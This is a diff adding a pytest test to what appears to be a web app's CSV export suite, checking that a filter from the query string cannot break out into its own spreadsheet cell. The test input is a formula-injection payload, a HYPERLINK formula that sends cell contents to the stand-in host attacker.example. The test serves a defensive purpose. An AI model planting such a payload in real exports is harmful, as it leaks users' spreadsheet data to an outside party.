@@ -76,6 +76,16 @@ def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_neutralised(world, 
     assert rows and not any(v.startswith("=") for r in rows for v in r.values())
 
 
+def test_a_filter_in_the_query_string_cannot_start_a_cell_of_its_own(world, client):
+    hostile = 'x,=HYPERLINK("http://attacker.example/?d="&A9,"open")'
+    client.force_login(world.alice)
+    text = b"".join(client.get(URL, {"actor": hostile}).streaming_content).decode()
+    rows = list(csv.reader(io.StringIO(text)))
+    notes = [row for row in rows if row and row[0].startswith("#")]
+    assert len(notes) == 4 and all(len(row) == 1 for row in notes)
+    assert any(hostile in row[0] for row in notes)
+
+
 @pytest.mark.parametrize("who", ["cora", "quinn", "sam", "rhea"])
 def test_no_one_but_a_trial_admin_exports(world, client, who):
     client.force_login(world.people[who])
